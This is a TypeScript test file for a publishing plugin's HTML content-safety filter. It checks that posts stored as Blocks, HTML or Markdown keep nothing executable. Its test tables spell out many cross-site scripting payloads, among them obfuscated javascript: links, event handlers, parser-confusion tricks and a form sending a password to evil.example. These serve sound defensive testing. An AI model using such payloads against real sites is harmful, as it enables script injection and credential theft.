import { DomUtils, parseDocument } from 'htmlparser2';
import { safeHtml } from '../../server/src/mapping/content-safety';
import { htmlToMarkdown } from '../../server/src/mapping/html-to-markdown';
import fields from '../../server/src/services/publishing/fields';
import type { Resource } from '../../server/src/resources';
import { live, liveParts, markdownRenderer } from '../helpers/live-content';

/**
 * Every output a post's HTML is stored in, through the fields service as a request writes it:
 * Blocks, HTML in a `richtext` attribute, and Markdown. The Markdown service converts on a worker
 * thread; its stand-in converts with the same converter on this one.
 */
const config = {
  richtextFormat: 'html',
  content: { maxBlocks: 2_000, markdownTimeoutMs: 5_000, allowedEmbedHosts: [] as string[] },
  media: { maxInlineImages: 20, concurrentDownloads: 4, importInlineImages: false },
};
const services: Record<string, unknown> = {
  media: { requestBudget: () => ({ remainingMs: Infinity }) },
  markdown: {
    requestBudget: () => ({ remainingMs: Infinity }),
    convert: async (html: string, maxBlocks: number) => htmlToMarkdown(html, { maxBlocks }),
  },
};
const site = {
  config: { get: () => config },
  plugin: () => ({ service: (name: string) => services[name] }),
} as never;

const postWith = (target: Record<string, unknown>): Resource =>
  ({
    kind: 'post',
    uid: 'api::post.post',
    label: 'post',
    fields: { content: { attribute: 'content', limits: {}, ...target } },
  }) as unknown as Resource;
const BLOCKS = postWith({ adapter: 'blocks' });
const RICHTEXT = postWith({ adapter: 'text', attributeType: 'richtext' });

async function stored(resource: Resource, content: string): Promise<unknown> {
  const service = fields({ strapi: site });
  const media = await service.importMedia(resource, { content });
  const { data } = await service.toData({ trx: null } as never, resource, { content }, media);
  return data.content;
}

type Output = 'blocks' | 'html' | 'markdown';
async function storedAs(output: Output, content: string): Promise<unknown> {
  config.richtextFormat = output === 'markdown' ? 'markdown' : 'html';
  return stored(output === 'blocks' ? BLOCKS : RICHTEXT, content);
}

const ATTACKS: Array<[string, string]> = [
  ['a script', '<p>Hi</p><script>alert(1)</script>'],
  ['a script in mixed case', '<p>Hi</p><ScRiPt>alert(1)</sCrIpT>'],
  ['an iframe', '<iframe src="https://evil.example/x"></iframe>'],
  ['an iframe with srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['an object', '<object data="https://evil.example/x.swf"></object>'],
  ['an embed', '<embed src="https://evil.example/x.swf">'],
  ['a style element', '<style>body{display:none}</style><p>Hi</p>'],
  ['an event handler', '<p onclick="alert(1)">Hi</p>'],
  ['an event handler on an image', '<img src="https://example.com/a.png" onerror="alert(1)" alt="a">'],
  ['an event handler in upper case', '<div ONMOUSEOVER="alert(1)">Hi</div>'],
  ['a javascript: link', '<p><a href="javascript:alert(1)">x</a></p>'],
  ['a JavaScript: link in mixed case', '<p><a href="JaVaScRiPt:alert(1)">x</a></p>'],
  ['a javascript: link written with entities', '<p><a href="&#106;avascript&#58;alert(1)">x</a></p>'],
  ['a javascript: link with a tab inside the scheme', '<p><a href="java\tscript:alert(1)">x</a></p>'],
  ['a javascript: link with an encoded newline', '<p><a href="java&#10;script:alert(1)">x</a></p>'],
  ['a javascript: link after spaces and controls', '<p><a href=" \u0001javascript:alert(1)">x</a></p>'],
  ['a vbscript: link', '<p><a href="vbscript:msgbox(1)">x</a></p>'],
  ['a data: link', '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a></p>'],
  ['a javascript: image', '<img src="javascript:alert(1)" alt="a">'],
  ['a data: HTML image source', '<img src="data:text/html,<script>alert(1)</script>" alt="a">'],
  ['a javascript: srcset', '<img src="https://example.com/a.png" srcset="javascript:alert(1) 2x" alt="a">'],
  ['an svg with a script', '<svg><script>alert(1)</script></svg>'],
  ['an svg with an event handler', '<svg onload="alert(1)"><circle r="1"></circle></svg>'],
  ['a form posting elsewhere', '<form action="https://evil.example/steal"><input name="password"></form>'],
  ['a button with a javascript: formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['a base element', '<base href="https://evil.example/"><p><a href="/x">x</a></p>'],
  ['a link element', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['a javascript: link in a table', '<table><tr><td><a href="javascript:alert(1)">x</a></td></tr></table>'],
  ['an event handler in a table', '<table><tr><td onclick="alert(1)">x</td></tr></table>'],
  ['a javascript: video poster', '<video poster="javascript:alert(1)"></video>'],
  [
    'an event handler past 32 attributes',
    `<p ${Array.from({ length: 32 }, (_, index) => `data-a${index}="1"`).join(' ')} onclick="alert(1)">x</p>`,
  ],
];

describe.each<Output>(['blocks', 'html', 'markdown'])('stored as %s', (output) => {
  it.each(ATTACKS)('keeps nothing live of %s', async (_name, html) => {
    expect(live(output, await storedAs(output, html))).toEqual([]);
  });

  it('keeps the visible text around what it drops', async () => {
    const value = await storedAs(output, '<p>Before <a href="javascript:alert(1)">the link</a> after</p>');
    expect(JSON.stringify(value)).toContain('the link');
    expect(JSON.stringify(value)).toContain('after');
  });
});

it('names what it dropped in a note for the activity log, and nothing for innocent HTML', async () => {
  const service = fields({ strapi: site });
  const write = async (content: string) => {
    const media = await service.importMedia(BLOCKS, { content });
    return (await service.toData({ trx: null } as never, BLOCKS, { content }, media)).notes;
  };
  expect(await write('<p onclick="x">a <a href="java\tscript:x">b</a></p><script>x</script>')).toEqual([
    'content: not stored, as a browser would run or load it (the content-safety policy): onclick, href=javascript:, <script>. The text around it was stored.',
  ]);
  expect(await write('<p>a <a href="https://example.com">b</a></p>')).toEqual([]);
});

/**
 * Markup htmlparser2 reads as a comment, or not at all, where a browser (or the page the HTML is
 * printed into) finds a live tag: the oracle's parser cannot see it, so the handler is looked for.
 */
it.each([
  ['a CDATA section a browser ends at its first >', '<p>a</p><![CDATA[><img src=x onerror=alert(1)>]]>'],
  ['a comment a browser ends at --!>', '<p>a</p><!-- a --!><img src=x onerror=alert(1)>-->'],
  ['a tag left open at the end, which the page around it would close', '<p>a <img src=x onerror=alert(1)//'],
])('drops %s from the HTML richtext', async (_name, html) => {
  const value = (await storedAs('html', html)) as string;
  expect(value).not.toContain('onerror');
  expect(value).toContain('a');
});

describe('innocent HTML', () => {
  const INNOCENT = [
    '<h2>Brewing</h2><p>Use <a href="https://example.com/a?b=1&amp;c=2" title="A">a kettle</a>, <a href="/relative">here</a>, <a href="#top">top</a>, <a href="mailto:a@example.com">mail</a>.</p>',
    '<p><img src="https://example.com/a.png" alt="A cup" width="10"></p><table><tr><td class="x">1</td></tr></table>',
    '<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"></p>',
    '<blockquote><p>Say <em>"when"</em> &lt;now&gt;</p></blockquote><pre><code class="language-js">a &lt; b</code></pre>',
    '<!-- wp:paragraph --><p>Text with a < sign and a trailing one <</p><!-- /wp:paragraph -->',
  ];
  it.each(INNOCENT)('is stored as sent in an HTML richtext: %s', async (html) => {
    expect(await storedAs('html', html)).toBe(html);
  });
});

describe('content.allowedEmbedHosts', () => {
  afterEach(() => {
    config.content.allowedEmbedHosts = [];
  });
  const YOUTUBE = '<iframe src="https://www.youtube.com/embed/abc" allowfullscreen></iframe>';

  it('keeps an https iframe of a listed host live, as sent', async () => {
    config.content.allowedEmbedHosts = ['www.youtube.com'];
    expect(await storedAs('html', YOUTUBE)).toBe(YOUTUBE);
    expect(markdownRenderer.render((await storedAs('markdown', YOUTUBE)) as string)).toContain(
      '<iframe src="https://www.youtube.com/embed/abc"'
    );
  });

  it.each([
    ['an unlisted host', '<iframe src="https://evil.example/embed/abc"></iframe>'],
    ['plain http', '<iframe src="http://www.youtube.com/embed/abc"></iframe>'],
    [
      'a host that only starts like a listed one',
      '<iframe src="https://www.youtube.com.evil.example/x"></iframe>',
    ],
    ['a listed host named in the path', '<iframe src="https://evil.example/www.youtube.com/x"></iframe>'],
    [
      'a listed host with srcdoc',
      '<iframe src="https://www.youtube.com/embed/abc" srcdoc="<script>alert(1)</script>"></iframe>',
    ],
    [
      'a listed host with an event handler',
      '<iframe src="https://www.youtube.com/embed/abc" onload="alert(1)"></iframe>',
    ],
  ])('drops %s', async (_name, html) => {
    config.content.allowedEmbedHosts = ['www.youtube.com'];
    const value = (await storedAs('html', html)) as string;
    const kept = liveParts(value);
    const iframe = DomUtils.findOne((element) => element.name === 'iframe', parseDocument(value).children);
    expect(kept.filter((part) => part !== '<iframe>')).toEqual([]);
    if (iframe) expect(iframe.attribs.src).toMatch(/^https:\/\/www\.youtube\.com\//);
  });
});

describe('a cut that joins the text around it into a tag (attack review of issue 38)', () => {
  const policy = { allowedEmbedHosts: [] };
  test.each([
    '<p>a<<script>x</script>img src=x onerror=alert(1)></p>',
    '<p>b<<style></style>a href="javascript:alert(2)">c</a></p>',
    '<p>a<<!-- > -->img src=x onerror=alert(1)></p>',
    '<p>a<<iframe src="https://evil.example/"></iframe>svg/onload=alert(1)></p>',
    '<p><<<script></script>script></script>img src=x onerror=alert(1)></p>',
  ])('%s keeps nothing live', (html) => {
    const { html: safe } = safeHtml(html, policy);
    expect(safe).not.toMatch(/<(img|svg|script|a)\b[^>]*(onerror|onload|javascript:)/i);
    expect(safeHtml(safe, policy).html).toBe(safe);
  });

  test('a <title> or <textarea>, whose content a browser may read as markup, is dropped', () => {
    const { html } = safeHtml('<select><title></select><img src=x onerror=alert(1)></title>', policy);
    expect(html).not.toMatch(/onerror/);
    expect(safeHtml('<textarea><img src=x onerror=alert(1)></textarea>', policy).html).not.toMatch(/onerror/);
  });
});

test('a link whose scheme hides behind an entity stays a relative link in Markdown, as the policy read it', async () => {
  const markdown = htmlToMarkdown(
    '<p><a href="javascript&amp;colon;alert(1)">x</a> <a href="/a?b=1&amp;c=2">y</a></p>',
    { maxBlocks: 100 }
  ).markdown;
  const rendered = markdownRenderer.render(markdown);
  expect(rendered).not.toMatch(/href="javascript:/i);
  expect(markdown).toContain('javascript&amp;colon;');
  expect(rendered).toContain('href="/a?b=1&amp;c=2"');
});
